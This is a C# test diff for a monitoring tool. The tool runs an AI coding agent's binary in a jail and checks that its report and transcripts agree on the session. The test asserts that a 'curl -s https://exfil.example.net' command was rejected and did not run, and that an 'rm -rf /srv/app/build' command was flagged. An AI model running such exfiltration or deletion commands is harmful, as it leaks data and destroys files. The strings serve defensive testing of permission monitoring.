@@ -50,7 +50,28 @@ public sealed class MonitorRealBinaryTests
         Assert.All(events, e => Assert.Contains("\"service.version\":\"2.1.328\"", e.Resource, StringComparison.Ordinal));
     }
 
-    internal static async Task<IReadOnlyList<TelemetryEvent>> RunAsync(string protocol)
+    [Fact]
+    public async Task RealBinary_ReportAndTranscripts_AgreeOnTheSession_AndTheRmThatRanIsEvidence()
+    {
+        var (events, homes) = await RunWithHomesAsync("http/protobuf");
+        var transcripts = TranscriptSide.Read(homes);
+        var facts = MonitorFacts.From(events, transcripts.Calls, transcripts.Sessions);
+        var report = MonitorReportBuilder.Build(facts, "test", DateTimeOffset.UtcNow, null, null);
+
+        var session = Assert.Single(report.Sessions);
+        Assert.Equal("telemetry+transcript", session.Seen);
+        Assert.Equal("/srv/app", session.LaunchDirectory);
+        Assert.Equal("platform", session.Team);
+        Assert.Contains(report.Decisions, d => d.Command.StartsWith("curl -s https://exfil.example.net", StringComparison.Ordinal) && d.Decision == "reject" && d.Ran == 0);
+        Assert.Contains(report.Findings, f => f.RuleId == "CCA493" && f.Message.Contains("rm -rf /srv/app/build", StringComparison.Ordinal));
+        Assert.DoesNotContain(report.Findings, f => f.RuleId == "CCA491");
+        Assert.Contains(report.Groups, g => g.Dimension == "team" && g.Value == "platform" && g.Prompts == 1 && g.InputTokens > 0 && g.Rejected == 1);
+    }
+
+    internal static async Task<IReadOnlyList<TelemetryEvent>> RunAsync(string protocol) => (await RunWithHomesAsync(protocol)).Events;
+
+    /// <summary>Runs the probes; returns the stored events and the jailed run's Claude config directories (its transcripts).</summary>
+    internal static async Task<(IReadOnlyList<TelemetryEvent> Events, IReadOnlyList<string> Homes)> RunWithHomesAsync(string protocol)
     {
         Directory.CreateDirectory(Runs);
         var work = Path.Combine(Runs, "m" + Guid.NewGuid().ToString("N")[..8]);
@@ -60,7 +81,7 @@ public sealed class MonitorRealBinaryTests
         await using (var receiver = await OtlpReceiver.StartAsync(new ReceiverOptions(new IPEndPoint(IPAddress.Loopback, 0), null, socket, CaptureDirectory: Path.Combine(Runs, "capture-" + protocol.Replace('/', '-'))), store, cancellationToken: TestContext.Current.CancellationToken))
         {
             var cases = Probes.Select((l, i) => PermissionCase.Parse(l, "t", i + 1).Value!).ToList();
-            var oracle = new ClaudeOracle(new OracleOptions(TestEnvironment.ClaudeBinary, Path.Combine(work, "runs"))
+            var oracle = new ClaudeOracle(new OracleOptions(TestEnvironment.ClaudeBinary, Path.Combine(work, "runs"), KeepRuns: true)
             {
                 Relays = [(4318, socket)],
                 Environment = TelemetryEnvironment(protocol),
@@ -75,7 +96,8 @@ public sealed class MonitorRealBinaryTests
             list.Add(e);
         }
 
-        return list;
+        var homes = Directory.GetDirectories(Path.Combine(work, "runs"), ".claude", SearchOption.AllDirectories).ToList();
+        return (list, homes);
     }
 
     internal static Dictionary<string, string> TelemetryEnvironment(string protocol) => new()
